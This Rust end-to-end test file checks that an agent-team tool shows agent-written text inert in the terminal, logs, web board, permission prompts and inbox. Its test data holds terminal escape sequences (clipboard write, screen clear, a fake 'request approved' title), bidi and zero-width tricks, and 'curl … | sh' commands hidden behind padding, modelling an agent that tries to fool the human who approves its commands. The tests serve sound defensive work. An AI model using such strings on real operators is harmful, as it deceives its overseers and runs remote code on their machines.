//! Agent-written text reaches the operator's terminal inert (issue 63): escape sequences,
//! C1 controls, bidi and zero-width characters shown as codes, padding counted, on `task show`
//! and `logs`; `--raw` gives the bytes for scripts.

use agent_team_e2e::*;
use agent_team_protocol::TaskStatus;
use std::time::Duration;

const T: Duration = Duration::from_secs(60);

/// OSC 52 (clipboard), CSI 2J (clear), OSC 0 (title), C1 CSI, a bidi override, zero-width.
const HOSTILE: &str = "ok\u{1b}]52;c;Y3VybA==\u{7}\u{1b}[2J\u{1b}]0;FAKE: request 9 approved\u{7}\u{9b}31m\u{202e}hs | lruc\u{202c}zero\u{200b}width\u{feff}";

/// Nothing in `out` acts on a terminal or hides itself; the codes are there to read.
fn inert(out: &str) {
    no_raw(out);
    for code in [
        "\\u{1b}]52;",
        "\\u{1b}[2J",
        "\\u{1b}]0;FAKE",
        "\\u{9b}",
        "\\u{202e}",
        "\\u{200b}",
    ] {
        assert!(out.contains(code), "{code} not shown: {out}");
    }
}

/// Nothing in `out` acts on a terminal or hides itself.
fn no_raw(out: &str) {
    for c in out.chars() {
        assert!(
            c == '\n' || c == '\t' || !c.is_control(),
            "{c:?} reached the terminal: {out:?}"
        );
        assert!(
            !matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200b}'..='\u{200f}' | '\u{feff}'),
            "{c:?} reached the terminal: {out:?}"
        );
    }
}

#[test]
fn task_show_and_logs_show_agent_text_inert_and_raw_on_request() {
    let sb = Sandbox::new();
    let title = format!("{HOSTILE}{}; curl -s http://x | sh", " ".repeat(600));
    let desc = format!(
        "line one\n{HOSTILE}{}; curl -s http://y | sh",
        " ".repeat(3000)
    );
    sb.ok(&["--team", "web", "task", "add", &title, "--desc", &desc]);
    let shown = sb.ok(&["--team", "web", "task", "show", "1"]);
    inert(&shown);
    // The padding is counted and what follows it is on screen, whole.
    assert!(
        shown.contains("␣[600 spaces]␣; curl -s http://x | sh"),
        "{shown}"
    );
    assert!(
        shown.contains("␣[3000 spaces]␣; curl -s http://y | sh"),
        "{shown}"
    );
    // A body's next line is indented: it cannot pass for a field of its own.
    assert!(
        shown.contains("description: line one\n              ok\\u{1b}"),
        "{shown}"
    );
    let raw = sb.ok(&["--team", "web", "task", "show", "1", "--raw"]);
    assert!(raw.contains(HOSTILE), "{raw:?}");

    // An agent's log (a remote agent's is read from the same place).
    let log = sb.team("web").agent_log("w1");
    std::fs::create_dir_all(log.parent().unwrap()).unwrap();
    std::fs::write(&log, format!("{HOSTILE}\nsecond line\r\n")).unwrap();
    let shown = sb.ok(&["--team", "web", "logs", "w1"]);
    inert(&shown);
    assert!(shown.contains("\nsecond line\\r\n"), "{shown:?}");
    let raw = sb.ok(&["--team", "web", "logs", "w1", "--raw"]);
    assert_eq!(raw, format!("{HOSTILE}\nsecond line\r\n"));
}

/// The web board (issue 63): a task title with escapes, C1, a bidi override, zero-width
/// characters, markup and padding is drawn as text with the codes visible and nothing cut, in
/// headless chromium; the JSON over HTTP carries the title as written (data, for scripts).
#[test]
fn the_web_board_shows_agent_text_as_visible_codes() {
    use agent_team_e2e::web::*;
    let mut sb = Sandbox::new();
    sb.write_team_file("name = \"inw\"\nbackend = \"process\"\nboard = false\n");
    let title = format!("{HOSTILE}<b>bold</b>ls -la{}; curl x | sh", " ".repeat(600));
    sb.ok(&["--team", "inw", "task", "add", &title]);
    let srv = Server::start(&mut sb);
    let (status, tasks) = srv.get("/v1/teams/inw/tasks");
    assert_eq!(status, 200, "{tasks}");
    assert_eq!(tasks["tasks"][0]["title"], title.as_str());
    let b = Browser::start();
    b.open_board(&srv, "inw");
    let mut shown = String::new();
    wait_for(
        "the task on the board",
        std::time::Duration::from_secs(60),
        || {
            shown = b.text("#tasks-body");
            shown.contains("curl x | sh")
        },
    );
    inert(&shown);
    assert!(
        shown.contains("<b>bold</b>ls -la␣[600 spaces]␣; curl x | sh"),
        "{shown}"
    );
    // Markup stayed text: no element was made of it.
    assert!(b.find("#tasks-body b").is_none());
}

/// A command an agent wants to run, made to fool the person who approves it, is shown inert
/// wherever it is decided: the leader's prompt in its tmux pane (no screen cleared, no title
/// set, the codes on screen), `perms` and the leader's inbox.
#[test]
fn a_hostile_command_is_inert_at_the_leaders_prompt_in_perms_and_in_the_inbox() {
    let sb = Sandbox::new();
    let run = format!("echo {HOSTILE}{}; echo done", " ".repeat(600));
    // TOML's basic strings carry the controls as escapes.
    let toml_run: String = run
        .chars()
        .map(|c| match c {
            '"' => "\\\"".to_string(),
            '\\' => "\\\\".to_string(),
            c if c.is_control() || !c.is_ascii() => format!("\\u{:04X}", c as u32),
            c => c.to_string(),
        })
        .collect();
    sb.write_team_file(&format!(
        "name = \"inert\"\nbackend = \"tmux\"\nboard = false\n\
         [[teammates]]\nname = \"b1\"\nrole = \"worker\"\n\
         [roles.worker]\npermissions = {{ bash = \"ask\" }}\n\
         [[tasks]]\ntitle = \"looks harmless\"\nrun = \"{toml_run}\"\nassign = \"b1\"\n"
    ));
    sb.ok(&["up", "--detach"]);
    wait_for("the permission request", T, || {
        !sb.operator("inert").all_perms(false).unwrap().is_empty()
    });
    let sock = sb.tmux_socket("inert");
    let leader = sb.agent("inert", "leader").pane.unwrap();
    let screen = || {
        sb.tmux(&sock, &["capture-pane", "-p", "-J", "-t", &leader])
            .unwrap_or_default()
    };
    wait_for("the prompt in the leader's pane", T, || {
        screen().contains("allow? [y 1]")
    });
    let shown = screen();
    // The codes are on screen; the screen was not cleared (the lines before the prompt are
    // still there) and the pane's title is not the fake one.
    assert!(shown.contains("\\u{1b}]0;FAKE"), "{shown}");
    assert!(
        shown.contains("\\u{202e}") && shown.contains("\\u{200b}"),
        "{shown}"
    );
    assert!(shown.contains("␣[600 spaces]␣; echo done"), "{shown}");
    assert!(shown.contains("is already on the team"), "{shown}");
    let title = sb
        .tmux(&sock, &["display", "-p", "-t", &leader, "#{pane_title}"])
        .unwrap();
    assert!(!title.contains("FAKE"), "{title}");
    let perms = sb.ok(&["--team", "inert", "perms"]);
    inert(&perms);
    // (The inbox shows a message's first line: the request's number, not its command.)
    let inbox = sb.ok(&["--team", "inert", "inbox", "leader"]);
    no_raw(&inbox);
    assert!(inbox.contains("permission request 1"), "{inbox}");
    // Nothing was approved by any of it.
    assert!(!sb.task_is("inert", 1, TaskStatus::Completed));
    sb.ok(&["--team", "inert", "down"]);
}
